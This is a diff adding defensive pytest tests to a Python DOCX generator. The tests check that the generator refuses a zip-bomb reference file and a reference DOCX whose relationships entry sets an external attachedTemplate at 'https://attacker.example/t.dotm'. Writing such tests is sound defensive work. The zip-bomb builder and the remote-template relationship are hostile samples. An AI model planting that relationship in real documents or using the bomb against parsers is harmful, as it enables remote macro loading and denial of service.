@@ -311,3 +311,58 @@ def test_zip_writer_matches_zipfile_byte_for_byte():
             info.create_system = 3
             archive.writestr(info, data)
     assert write_zip(deflate(name, data) for name, data in parts) == expected.getvalue()
+
+
+def _reference_with(extra: dict[str, bytes], replace: dict[str, bytes] | None = None) -> bytes:
+    buffer = io.BytesIO()
+    docx.Document().save(buffer)
+    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        for info in source.infolist():
+            archive.writestr(info.filename, (replace or {}).get(info.filename,
+                                                                source.read(info.filename)))
+        for name, data in extra.items():
+            archive.writestr(name, data)
+    return out.getvalue()
+
+
+def test_zip_bomb_reference_is_refused_while_unpacking(runner, tmp_path, monkeypatch):
+    from jdgen.render import docx as docx_module
+
+    monkeypatch.setattr(docx_module, "MAX_REFERENCE_BYTES", 100_000)  # unpack limit 2 MB
+    (tmp_path / "ref.docx").write_bytes(_reference_with({"word/media/big.bin": b"\0" * 3_000_000}))
+    assert (tmp_path / "ref.docx").stat().st_size < 100_000  # small on disk, huge inside
+    result = runner.invoke(main, ["build", "coo", "--company", "Acme",
+                                  "--reference-docx", "ref.docx"])
+    assert result.exit_code == 1
+    assert result.stderr == ("Error: ref.docx: reference DOCX unpacks to more than 2,000,000 "
+                             "bytes; refusing it\n")
+    assert not (tmp_path / "acme-coo.docx").exists()
+
+
+ATTACHED_TEMPLATE = (
+    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+    b'relationships/attachedTemplate" Target="https://attacker.example/t.dotm" '
+    b'TargetMode="External"/></Relationships>'
+)
+
+
+def test_reference_with_a_remote_template_is_refused(runner, tmp_path):
+    data = _reference_with({"word/_rels/settings.xml.rels": ATTACHED_TEMPLATE})
+    (tmp_path / "ref.docx").write_bytes(data)
+    result = runner.invoke(main, ["build", "coo", "--company", "Acme",
+                                  "--reference-docx", "ref.docx"])
+    assert result.exit_code == 1
+    assert result.stderr == ("Error: ref.docx: reference DOCX links to outside content "
+                             "(attachedTemplate); remove it and save the file again\n")
+
+
+def test_reference_with_an_ordinary_hyperlink_is_accepted(runner, tmp_path):
+    link = ATTACHED_TEMPLATE.replace(b"attachedTemplate", b"hyperlink")
+    (tmp_path / "ref.docx").write_bytes(_reference_with({"word/_rels/settings.xml.rels": link}))
+    result = runner.invoke(main, ["build", "coo", "--company", "Acme",
+                                  "--reference-docx", "ref.docx"])
+    assert result.exit_code == 0, result.stderr
